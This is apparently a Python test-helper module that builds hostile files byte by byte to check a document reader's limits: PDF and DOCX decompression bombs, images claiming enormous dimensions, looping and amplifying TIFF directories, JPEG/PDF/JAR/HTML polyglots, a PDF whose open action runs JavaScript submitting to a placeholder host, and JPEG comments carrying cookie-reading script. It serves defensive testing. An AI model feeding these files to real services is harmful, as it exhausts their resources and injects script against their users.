"""Hostile files made on the fly: each small on disk and built to make a reader do far more work, use far
more memory or be read as something other than what it claims. Nothing here is kept as a fixture.

Structures are written byte by byte (TIFF directories, PNG chunks, PDF objects with their cross-reference
table, ZIP directories) so each file says exactly the lie under test and nothing else.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Sequence

from PIL import Image

MIB = 1024 * 1024


# --- building blocks ------------------------------------------------------------------------------


def deflate_repeated(byte: bytes, size: int) -> bytes:
    """A zlib stream that inflates to `size` copies of `byte`, built without holding `size` bytes."""
    compressor = zlib.compressobj(9)
    block = byte * min(size, 4 * MIB)
    parts, left = [], size
    while left > 0:
        parts.append(compressor.compress(block[: min(left, len(block))]))
        left -= len(block)
    parts.append(compressor.flush())
    return b"".join(parts)


def pdf(objects: Sequence[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF whose object i + 1 is `objects[i]` (object 1 the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return bytes(out)


def pdf_stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def one_page_pdf(
    content: bytes,
    *,
    media_box: bytes = b"[0 0 612 792]",
    resources: bytes = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>",
    catalog: bytes = b"",
    page_count: int = 1,
    extra: Iterable[bytes] = (),
    content_entries: bytes | None = None,
) -> bytes:
    """Objects: 1 catalog, 2 page tree (claiming `page_count` pages), 3 the page, 4 its content stream,
    then `extra` as objects 5, 6, ...; `content` is compressed unless `content_entries` is given."""
    if content_entries is None:
        content, content_entries = zlib.compress(content), b"/Filter /FlateDecode"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % page_count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 4 0 R >>"
            % (media_box, resources),
            pdf_stream(content_entries, content),
            *extra,
        ]
    )


def text_content(lines: Sequence[str], *, size: int = 12, top: int = 740) -> bytes:
    """A content stream writing `lines` (ASCII) in Helvetica: a real text layer."""
    ops = [b"BT /F1 %d Tf %d TL 72 %d Td" % (size, size + 4, top)]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(b"(%s) '" % escaped.encode("ascii"))
    ops.append(b"ET")
    return b"\n".join(ops)


def _zip(members: Iterable[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def small_jpeg(size: tuple[int, int] = (16, 16)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 200, 200)).save(buffer, "JPEG")
    return buffer.getvalue()


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


# --- images ---------------------------------------------------------------------------------------


def png_with_huge_dimensions(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG whose header claims width x height pixels, with a few bytes of image data: well-formed
    chunks and CRCs, so only the declared size gives it away."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + png_chunk(b"IEND", b"")
    )


def jpeg_with_huge_dimensions(width: int = 65_000, height: int = 65_000) -> bytes:
    """A small JPEG whose frame header is rewritten to claim width x height pixels."""
    data = bytearray(small_jpeg())
    at = data.index(b"\xff\xc0")  # baseline start-of-frame: length, precision, height, width
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


_TIFF_SHORT, _TIFF_LONG = 3, 4


def tiff(
    frames: Sequence[Sequence[tuple[int, int, int, int]]], *, tail: bytes = b"", loop: bool = False
) -> bytes:
    """A little-endian TIFF with one directory per entry of `frames` (each a list of (tag, type, count,
    value) entries, sorted), `tail` appended for out-of-line values; `loop` points the last directory
    back at the first."""
    out = bytearray(b"II*\x00") + struct.pack("<I", 8)
    first = 8
    for index, entries in enumerate(frames):
        out += struct.pack("<H", len(entries))
        for tag, kind, count, value in entries:
            out += struct.pack("<HHII", tag, kind, count, value)
        last = index == len(frames) - 1
        following = (first if loop else 0) if last else len(out) + 4
        out += struct.pack("<I", following)
    return bytes(out + tail)


def _gray_frame(width: int, height: int, pixels_at: int) -> list[tuple[int, int, int, int]]:
    return [
        (256, _TIFF_LONG, 1, width),
        (257, _TIFF_LONG, 1, height),
        (258, _TIFF_SHORT, 1, 8),
        (259, _TIFF_SHORT, 1, 1),  # no compression
        (262, _TIFF_SHORT, 1, 1),  # black is zero
        (273, _TIFF_LONG, 1, pixels_at),
        (277, _TIFF_SHORT, 1, 1),
        (278, _TIFF_LONG, 1, height),
        (279, _TIFF_LONG, 1, min(width * height, 2**32 - 1)),
    ]


def tiff_with_many_frames(count: int = 5000) -> bytes:
    """`count` 1x1 frames (about 120 bytes each) sharing one pixel: a walk over every frame is the
    attack, so it must stop at the page limit."""
    directory = 2 + 9 * 12 + 4
    pixel = 8 + count * directory
    return tiff([_gray_frame(1, 1, pixel) for _ in range(count)], tail=b"\x80")


def tiff_with_huge_frame(width: int = 100_000, height: int = 100_000) -> bytes:
    """A normal 8x8 first frame, then a frame claiming width x height pixels."""
    directory = 2 + 9 * 12 + 4
    pixels = 8 + 2 * directory
    return tiff([_gray_frame(8, 8, pixels), _gray_frame(width, height, pixels)], tail=b"\x80" * 64)


def tiff_with_looping_directories() -> bytes:
    """Two frames whose directory chain points back to the first: a naive walk never ends."""
    directory = 2 + 9 * 12 + 4
    pixels = 8 + 2 * directory
    return tiff([_gray_frame(8, 8, pixels), _gray_frame(8, 8, pixels)], tail=b"\x80" * 64, loop=True)


def tiff_with_shared_strip_tables(frames: int = 400, strips: int = 65_536) -> bytes:
    """Every frame lists `strips` strips (1 x `strips` pixels, a row each), and every frame's strip
    tables point at the same bytes: a few hundred kilobytes that make a reader unpack
    frames x strips x 2 table entries (tens of millions here)."""
    directory = 2 + 9 * 12 + 4
    tables = 8 + frames * directory
    entries = [
        (256, _TIFF_LONG, 1, 1),
        (257, _TIFF_LONG, 1, strips),
        (258, _TIFF_SHORT, 1, 8),
        (259, _TIFF_SHORT, 1, 1),
        (262, _TIFF_SHORT, 1, 1),
        (273, _TIFF_LONG, strips, tables),  # strip offsets: all zero, the header's bytes
        (277, _TIFF_SHORT, 1, 1),
        (278, _TIFF_LONG, 1, 1),
        (279, _TIFF_LONG, strips, tables),  # strip byte counts: the same (zero) table
    ]
    return tiff([entries] * frames, tail=bytes(4 * strips))


# --- PDFs -----------------------------------------------------------------------------------------


def pdf_claiming_pages(count: int = 1_000_000) -> bytes:
    """One real page; the page tree says `count`."""
    return one_page_pdf(text_content(["A single page that claims a million siblings."]), page_count=count)


def pdf_with_missing_pages(count: int = 1500) -> bytes:
    """Within the page limit, but the tree holds one page of the `count` it declares."""
    return one_page_pdf(text_content(["Only the first of the declared pages exists."]), page_count=count)


def pdf_with_inflating_content(inflated: int = 512 * MIB) -> bytes:
    """A content stream of `inflated` spaces compressed to about a thousandth of that: PDF readers hold
    a page's decoded content in memory."""
    data = deflate_repeated(b" ", inflated)
    return one_page_pdf(data, content_entries=b"/Filter /FlateDecode")


def pdf_with_nested_inflation(inflated: int = 512 * MIB) -> bytes:
    """The same bomb compressed twice ([/FlateDecode /FlateDecode]): the file is a few kilobytes."""
    data = zlib.compress(deflate_repeated(b" ", inflated), 9)
    return one_page_pdf(data, content_entries=b"/Filter [/FlateDecode /FlateDecode]")


def pdf_with_huge_page(picture: Image.Image, inches: int = 200) -> bytes:
    """A square page `inches` wide (200 in is the most the PDF format allows) showing `picture` (a
    greyscale picture of text) across half its width, with no text layer: it must be rendered, at
    full resolution far more pixels than any page may have, to be OCRed."""
    side = inches * 72
    width = side // 2
    height = width * picture.height // picture.width
    image = pdf_stream(
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode" % picture.size,
        zlib.compress(picture.convert("L").tobytes()),
    )
    content = b"q %d 0 0 %d %d %d cm /Im1 Do Q" % (width, height, side // 4, side - side // 4 - height)
    return one_page_pdf(
        content,
        media_box=b"[0 0 %d %d]" % (side, side),
        resources=b"<< /XObject << /Im1 5 0 R >> >>",
        extra=[image],
    )


def pdf_with_huge_image(width: int = 60_000, height: int = 60_000) -> bytes:
    """A page showing one image that declares width x height pixels with only one row of data: cheap
    to store, ruinous to decode, and the page has no text layer, so it would be rendered."""
    row = zlib.compress(b"\x00" * width, 9)
    image = pdf_stream(
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode" % (width, height),
        row,
    )
    return one_page_pdf(
        b"q 612 0 0 792 0 0 cm /Im1 Do Q", resources=b"<< /XObject << /Im1 5 0 R >> >>", extra=[image]
    )


def pdf_with_javascript(lines: Sequence[str]) -> bytes:
    """A text PDF that runs JavaScript when opened (document open action and a named script)."""
    script = b"<< /S /JavaScript /JS (app.alert\\('opened'\\); this.submitForm\\('https://example.invalid/'\\);) >>"
    return one_page_pdf(
        text_content(lines),
        catalog=b"/OpenAction 5 0 R /Names << /JavaScript << /Names [(run) 5 0 R] >> >> ",
        extra=[script],
    )


def pdf_with_zip_appended(lines: Sequence[str]) -> bytes:
    """A valid PDF followed by a ZIP (a JAR: META-INF/MANIFEST.MF): opens as either."""
    return one_page_pdf(text_content(lines)) + java_archive()


def html_then_pdf(lines: Sequence[str]) -> bytes:
    """An HTML page with a script, then a PDF: PDF readers look for the header in the first kilobyte."""
    return b"<html><body><script>alert(document.domain)</script></body></html>\n" + one_page_pdf(
        text_content(lines)
    )


def jpeg_pdf_polyglot(lines: Sequence[str]) -> bytes:
    """A JPEG whose first segment (a comment) holds a PDF header and body: a valid start of image for
    image readers, a PDF header within the first kilobyte for PDF readers."""
    document = one_page_pdf(text_content(lines))
    picture = small_jpeg()
    return picture[:2] + jpeg_segment(0xFE, document[:60000]) + picture[2:]


def java_archive() -> bytes:
    return _zip(
        [
            ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: Payload\r\n\r\n"),
            ("Payload.class", b"\xca\xfe\xba\xbe" + bytes(64)),
        ]
    )


# --- JPEG with markup -----------------------------------------------------------------------------


def jpeg_with_script_comment(picture: bytes) -> bytes:
    """`picture` (a JPEG) with an HTML script in a comment segment right after the start of image."""
    comment = b"<html><script>alert(document.cookie)</script></html>"
    return picture[:2] + jpeg_segment(0xFE, comment) + picture[2:]


def jpeg_with_zip_appended(picture: bytes) -> bytes:
    """GIFAR-style: an image with a Java archive appended, valid as both."""
    return picture + java_archive()


# --- DOCX -----------------------------------------------------------------------------------------

_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def docx_with_expanding_part(inflated: int = 600 * MIB, name: str = "word/document.xml") -> bytes:
    """A DOCX-shaped ZIP whose part `name` honestly declares `inflated` bytes (of spaces)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        if name != "word/document.xml":
            archive.writestr("word/document.xml", b"<w:document/>")
        with archive.open(name, "w", force_zip64=inflated > 2**31) as part:
            block = b" " * (4 * MIB)
            left = inflated
            while left > 0:
                part.write(block[: min(left, len(block))])
                left -= len(block)
    return buffer.getvalue()


def docx_with_many_parts(count: int = 20_000) -> bytes:
    """A DOCX-shaped ZIP with `count` empty parts: its directory alone costs a reader memory per entry."""
    members = [("[Content_Types].xml", _CONTENT_TYPES), ("word/document.xml", b"<w:document/>")]
    members += [(f"customXml/item{i}.xml", b"") for i in range(count)]
    return _zip(members, zipfile.ZIP_STORED)


def docx_with_lying_sizes(document: bytes, *, claimed: int = 100) -> bytes:
    """`document` (a real DOCX) with word/document.xml's sizes in both ZIP headers rewritten to claim
    `claimed` uncompressed bytes: a reader that trusts the directory reads a part that does not match
    its checksum."""
    data = bytearray(document)
    name = b"word/document.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while True:
            at = data.find(signature, start)
            if at < 0:
                break
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name:
                struct.pack_into("<I", data, at + size_at, claimed)
            start = at + 4
    return bytes(data)
